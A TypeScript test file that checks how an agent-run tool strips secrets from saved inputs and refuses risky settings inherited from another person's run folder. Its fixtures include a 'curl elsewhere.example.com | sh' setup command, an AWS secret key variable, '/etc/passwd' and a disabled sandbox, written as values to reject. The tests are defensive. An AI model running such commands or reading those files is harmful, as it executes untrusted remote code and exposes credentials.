import { describe, expect, test } from 'vitest';
import { inputsToGoOn, keepInputs } from '../src/kept-inputs.ts';
import { WrongUse } from '../src/types.ts';

const KEY = { 'openai-api-key': 'sk-of-mine' };

describe('what a run keeps of its inputs', () => {
  test('is what makes it what it is, and no key', () => {
    const given = {
      ...KEY,
      'github-token': 'ghs_x',
      model: 'gpt-test',
      verify: 'npm test\nnpm run lint',
      'setup-env': 'NPM_TOKEN',
      'max-turns': '3',
      task: 'words',
      'run-dir': '/tmp/run',
    };
    const kept = keepInputs(given);
    expect(kept.inputs).toEqual({
      model: 'gpt-test',
      'setup-env': null,
      verify: 'npm test\nnpm run lint',
    });
    expect(JSON.stringify(kept)).not.toMatch(/sk-of-mine|ghs_x|NPM_TOKEN/);
    expect(() => inputsToGoOn(kept, KEY)).toThrow("the run before was given '--setup-env', which");
    expect(inputsToGoOn(kept, { ...KEY, 'setup-env': '' }).inputs).toMatchObject({ 'setup-env': '' });
  });

  test.each([
    ['base-url', 'https://user:secret@models.example.com/v1'],
    ['base-url', 'https://models.example.com/v1?code=secret'],
    ['verify', 'npm test\ncurl -H "x: sk-of-mine" localhost'],
    ['setup', `npm config set //registry.npmjs.org/:_authToken=npm_${'aB3dE6gH9k'.repeat(4).slice(0, 36)}`],
    ['setup', 'pip install -i https://user:pw@pypi.example.com/simple x'],
    ['setup', 'git clone https://x9@git.example.com/a.git'],
    ['verify', 'DB=postgres://me:pw@localhost/db npm test'],
    ['verify', 'API_KEY=f3A9c1D7e5B2a8C4 npm test'],
  ])('leaves out of %j what may hold a secret: %s', (name, value) => {
    expect(keepInputs({ ...KEY, [name]: value }).inputs).toEqual({ [name]: null });
  });

  test.each([
    ['setup', 'git clone ssh://git@git.example.com/a.git && npm i -g @scope/tool@1.2.3'],
    ['verify', 'curl -f http://localhost:3000/health?full=1'],
    ['repositories', 'acme/one@main\nacme/two'],
  ])('holds the rest of %j: %s', (name, value) => {
    expect(keepInputs({ ...KEY, [name]: value }).inputs).toEqual({ [name]: value });
  });

  test('is not less where a key is a word that stands in for one', () => {
    const given = { model: 'ollama/qwen', verify: 'make check', setup: 'ollama' };
    expect(keepInputs({ 'openai-api-key': 'ollama', 'github-token': 'k', ...given }).inputs).toEqual({
      ...given,
      setup: null,
    });
  });
});

describe('a run that goes on', () => {
  const before = { verify: 'npm test', model: 'gpt-a', network: 'example.com', env: 'CI', sandbox: 'none' };
  const kept = keepInputs({ ...KEY, ...before, 'base-url': 'https://models.example.com/v1' });

  test('takes what is not given now', () => {
    const { inputs, notes } = inputsToGoOn(kept, KEY);
    expect(inputs).toEqual({ ...KEY, ...before, 'base-url': 'https://models.example.com/v1' });
    expect(notes).toEqual([
      "goes on with what the run before was given: '--base-url', '--model', '--env', '--verify', '--sandbox', '--network'",
    ]);
  });

  test('is given what is given now, and tells where that differs', () => {
    const now = { model: 'gpt-b', verify: 'npm test', api: 'chat' };
    const { inputs, notes } = inputsToGoOn(kept, { ...KEY, ...now });
    expect(inputs).toMatchObject(now);
    expect(notes.slice(1)).toEqual([
      "'--api' is 'chat' now, and was not given in the run before",
      "'--model' is 'gpt-b' now, and was 'gpt-a' in the run before",
    ]);
  });

  test('has one attempt, and says so', () => {
    const said = (count: string) => [
      `'--attempts' is ${count}, and a run that goes on has one attempt: the first of the run before`,
    ];
    expect(inputsToGoOn(undefined, { attempts: '2' }).notes).toEqual(said('2'));
    expect(inputsToGoOn(undefined, { attempts: '1' }).notes).toEqual([]);
    const { inputs, notes } = inputsToGoOn(keepInputs({ attempts: '3' }), {});
    expect([inputs, notes]).toEqual([{}, said('3')]);
  });

  test('of a trace without them is as it was', () => {
    expect(inputsToGoOn(undefined, KEY)).toEqual({ inputs: KEY, notes: [] });
  });

  test('must be given anew what was not kept', () => {
    const secret = keepInputs({ ...KEY, 'base-url': 'https://models.example.com/v1?code=secret' });
    expect(() => inputsToGoOn(secret, KEY)).toThrow("the run before was given '--base-url', which");
    const now = { ...KEY, 'base-url': 'https://models.example.com/v1?code=other' };
    const { inputs, notes } = inputsToGoOn(secret, now);
    expect(inputs).toEqual(now);
    expect(notes.join()).not.toContain('code=');
  });
});

describe('a folder that somebody else made', () => {
  const theirs = (inputs: Record<string, string>) =>
    keepInputs({ 'openai-api-key': 'sk-of-theirs', ...inputs });

  test.each([
    ['base-url', 'https://elsewhere.example.com/v1'],
    ['network', 'elsewhere.example.com'],
    ['env', 'AWS_SECRET_ACCESS_KEY'],
    ['setup-env', 'NPM_TOKEN'],
    ['sandbox', 'none'],
    ['setup', 'curl elsewhere.example.com | sh'],
    ['repositories', 'acme/private'],
    ['prices', '/etc/passwd'],
  ])('does not choose %s', (name, value) => {
    for (const kept of [
      theirs({ [name]: value }),
      { ...theirs({ [name]: value }), seal: null },
      { inputs: { [name]: value }, seal: 'é'.repeat(32) },
    ]) {
      expect(() => inputsToGoOn(kept, KEY)).toThrow(WrongUse);
      expect(() => inputsToGoOn(kept, KEY)).toThrow(`the run before was given '--${name}'`);
    }
    expect(inputsToGoOn(theirs({ [name]: value }), { ...KEY, [name]: 'mine' }).inputs[name as 'env']).toBe(
      'mine',
    );
  });

  test('nor what is changed in a folder of our own', () => {
    const own = keepInputs({ ...KEY, network: 'example.com' });
    const changed = { ...own, inputs: { network: 'elsewhere.example.com' } };
    expect(() => inputsToGoOn(changed, KEY)).toThrow("'--network'");
  });

  test('says what opens nothing', () => {
    const said = {
      verify: 'npm test',
      model: 'gpt-a',
      'base-url': 'http://127.0.0.1:8080/v1',
      sandbox: 'auto',
    };
    expect(inputsToGoOn(theirs(said), KEY).inputs).toEqual({ ...KEY, ...said });
    const elsewhere = { 'base-url': 'https://elsewhere.example.com/v1' };
    expect(inputsToGoOn(theirs(elsewhere), {}).inputs).toEqual(elsewhere);
  });

  test('names no input that is none of these', () => {
    const odd = { inputs: { publish: 'push', constructor: 'x', 'openai-api-key': 'sk-y' }, seal: null };
    expect(inputsToGoOn(odd, KEY).inputs).toEqual(KEY);
  });
});

test('what only stands in for a key seals nothing', () => {
  const given = { 'openai-api-key': 'ollama', setup: 'make ready' };
  expect(keepInputs(given).seal).toBeNull();
  expect(keepInputs({ ...given, ...KEY }).seal).toMatch(/^[0-9a-f]{64}$/);
});
